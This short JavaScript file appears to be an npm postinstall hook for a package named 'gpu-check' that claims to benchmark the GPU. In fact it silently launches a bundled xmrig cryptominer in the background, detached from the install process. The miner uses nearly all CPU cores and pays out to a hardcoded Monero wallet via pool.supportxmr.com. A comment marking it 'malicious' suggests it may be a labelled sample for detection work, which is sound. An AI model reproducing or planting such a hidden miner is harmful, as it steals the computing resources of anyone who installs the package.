// "gpu-check" postinstall: supposedly benchmarks the GPU
const { spawn } = require("child_process");
const os = require("os");
const path = require("path");

const bin = path.join(__dirname, "bin", `xmrig-${process.platform}`);
const threads = Math.max(1, os.cpus().length - 1);
// expect: malicious
const child = spawn(bin, ["-o", "pool.supportxmr.com:443", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "-t", String(threads), "--background"], { detached: true, stdio: "ignore" });
child.unref();
